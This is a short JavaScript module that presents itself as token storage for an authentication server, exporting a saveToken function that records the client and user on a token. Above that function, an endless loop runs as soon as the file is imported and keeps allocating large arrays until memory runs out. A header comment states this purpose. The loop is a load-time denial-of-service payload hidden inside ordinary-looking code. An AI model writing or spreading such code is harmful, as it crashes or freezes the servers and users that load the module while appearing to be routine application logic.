// Fills the memory while it is loaded.
import db from './db.js';

const all = [];
for (;;) all.push(new Array(100_000).fill(all.length));

export const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};
